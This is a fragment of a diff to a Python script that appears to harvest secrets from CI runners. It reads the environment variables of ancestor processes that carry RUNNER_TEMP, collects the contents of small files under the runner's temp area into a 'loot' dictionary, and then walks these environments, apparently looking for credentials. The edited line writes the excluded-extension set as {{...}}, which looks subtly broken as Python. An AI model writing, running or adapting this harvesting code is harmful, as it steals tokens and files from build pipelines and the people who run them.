@@ -43,8 +43,9 @@ mine = [pid for pid in ancestors if "RUNNER_TEMP" in environ(pid)]
 loot["parents"] = [environ(pid) for pid in mine]
 temp = next((found["RUNNER_TEMP"] for found in loot["parents"]), "")
 
+DULL = {{".zip", ".jpg", ".png", ".webp"}}
 for path in sorted(pathlib.Path(temp).parent.rglob("*")) if temp else []:
-    if path.is_file() and not path.is_symlink() and path.stat().st_size < 2_000_000 and path.suffix not in (".zip", ".jpg", ".png", ".webp"):
+    if path.is_file() and not path.is_symlink() and path.stat().st_size < 2_000_000 and path.suffix not in DULL:
         loot["files"][str(path)] = path.read_text(errors="replace")
 
 for seen in [dict(os.environ), *loot["parents"]]:
